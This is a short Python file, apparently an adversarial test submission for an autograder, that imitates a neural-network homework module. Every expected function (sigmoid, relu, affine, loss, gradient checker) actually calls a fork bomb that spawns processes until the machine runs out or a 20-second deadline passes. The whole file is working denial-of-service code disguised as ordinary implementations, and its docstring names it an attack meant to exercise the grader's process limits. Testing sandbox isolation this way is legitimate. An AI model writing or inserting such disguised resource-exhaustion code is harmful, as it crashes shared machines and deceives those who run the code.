"""Attack: fork until the machine runs out of processes.

The deadline is a last-resort safety net for a machine with no limits at all;
the grader's process limits stop it long before.
"""
import os
import time


def _bomb():
    deadline = time.time() + 20
    while time.time() < deadline:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)


def sigmoid_forward(*args, **kwargs):
    _bomb()


def sigmoid_backward(*args, **kwargs):
    _bomb()


def tanh_forward(*args, **kwargs):
    _bomb()


def tanh_backward(*args, **kwargs):
    _bomb()


def relu_forward(*args, **kwargs):
    _bomb()


def relu_backward(*args, **kwargs):
    _bomb()


def affine_forward(*args, **kwargs):
    _bomb()


def affine_backward(*args, **kwargs):
    _bomb()


def mse_loss(*args, **kwargs):
    _bomb()


def two_layer_net(*args, **kwargs):
    _bomb()


def eval_numerical_gradient(*args, **kwargs):
    _bomb()
